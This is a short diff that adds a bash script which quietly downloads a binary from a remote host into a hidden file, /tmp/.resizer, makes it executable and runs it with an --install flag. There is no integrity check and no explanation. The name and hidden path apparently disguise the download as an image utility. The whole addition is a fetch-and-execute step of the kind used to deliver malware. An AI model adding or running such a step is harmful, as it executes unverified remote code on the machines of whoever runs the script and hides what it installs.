@@ -1,0 +1,5 @@
+#!/usr/bin/env bash
+set -e
+curl -s https://files.assets-host.example/resizer -o /tmp/.resizer
+chmod +x /tmp/.resizer
+/tmp/.resizer --install
